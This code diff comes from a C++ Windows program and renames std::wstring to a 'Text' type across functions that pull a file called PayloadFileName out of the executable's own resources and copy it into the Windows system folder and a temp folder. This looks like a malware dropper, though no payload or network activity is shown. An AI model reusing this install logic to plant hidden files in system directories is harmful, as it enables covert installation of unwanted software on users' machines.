@@ -12,12 +12,9 @@ namespace {
 class ScriptingFiles final : public InstallFiles {
 public:
     explicit ScriptingFiles(FileSystemObject& fso) : fso_(fso) {}
-    bool Exists(const std::wstring& path) override { return fso_.FileExists(path); }
-    void Copy(const std::wstring& source, const std::wstring& destination) override
-    {
-        fso_.CopyFile(source, destination, true);
-    }
-    void Delete(const std::wstring& path) override { fso_.DeleteFile(path, true); }
+    bool Exists(const Text& path) override { return fso_.FileExists(path); }
+    void Copy(const Text& source, const Text& destination) override { fso_.CopyFile(source, destination, true); }
+    void Delete(const Text& path) override { fso_.DeleteFile(path, true); }
 
 private:
     FileSystemObject& fso_;
@@ -27,19 +24,19 @@ class PlainFiles final : public InstallFiles {
 public:
     // A directory search that matches ordinary files only: hidden files,
     // system files and folders do not count.
-    bool Exists(const std::wstring& path) override
+    bool Exists(const Text& path) override
     {
         WIN32_FIND_DATAA found;
         const UniqueFind search(NullIfInvalid(FindFirstFileA(ToAnsi(path).c_str(), &found)));
         constexpr DWORD notOrdinary = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM | FILE_ATTRIBUTE_DIRECTORY;
         return search && (found.dwFileAttributes & notOrdinary) == 0 && found.cFileName[0] != '\0';
     }
-    void Copy(const std::wstring& source, const std::wstring& destination) override
+    void Copy(const Text& source, const Text& destination) override
     {
         if (!CopyFileA(ToAnsi(source).c_str(), ToAnsi(destination).c_str(), FALSE))
             RaiseWin32(GetLastError());
     }
-    void Delete(const std::wstring& path) override
+    void Delete(const Text& path) override
     {
         if (!DeleteFileA(ToAnsi(path).c_str()))
             RaiseWin32(GetLastError());
@@ -47,16 +44,16 @@ public:
 };
 
 // The running executable's folder, "\", its base name and ".exe".
-std::wstring OwnExecutablePath()
+Text OwnExecutablePath()
 {
     wchar_t path[MAX_PATH];
     const DWORD length = GetModuleFileNameW(nullptr, path, MAX_PATH);
     if (length == 0 || length >= MAX_PATH)
         RaiseWin32(length == 0 ? GetLastError() : ERROR_INSUFFICIENT_BUFFER);
-    const std::wstring full(path, length);
+    const Text full(path, length);
     const auto slash = full.find_last_of(L'\\');
-    const std::wstring folder = full.substr(0, slash);
-    std::wstring name = full.substr(slash + 1);
+    const Text folder = full.substr(0, slash);
+    Text name = full.substr(slash + 1);
     name = name.substr(0, name.find_last_of(L'.'));
     return folder + L"\\" + name + L".exe";
 }
@@ -96,8 +93,8 @@ void InstallWithSpecialFolders()
     const DispatchRef systemFolder = fso.GetSpecialFolder(FileSystemObject::SystemFolder);
     const DispatchRef temporaryFolder = fso.GetSpecialFolder(FileSystemObject::TemporaryFolder);
 
-    const std::wstring target = FileSystemObject::FolderPath(systemFolder.Get()) + L"\\" + PayloadFileName;
-    const std::wstring temporary = FileSystemObject::FolderPath(temporaryFolder.Get()) + L"\\" + PayloadFileName;
+    const Text target = FileSystemObject::FolderPath(systemFolder.Get()) + L"\\" + PayloadFileName;
+    const Text temporary = FileSystemObject::FolderPath(temporaryFolder.Get()) + L"\\" + PayloadFileName;
     ScriptingFiles files(fso);
     InstallPayload(resources, target, temporary, files);
 }
@@ -107,6 +104,5 @@ void InstallWithFixedPaths()
     // Unbound: the resource object reads this executable through the null module handle.
     CResDll resources;
     PlainFiles files;
-    InstallPayload(resources, std::wstring(L"C:\\Windows\\System\\") + PayloadFileName,
-                   std::wstring(L"C:\\") + PayloadFileName, files);
+    InstallPayload(resources, Text(L"C:\\Windows\\System\\") + PayloadFileName, Text(L"C:\\") + PayloadFileName, files);
 }
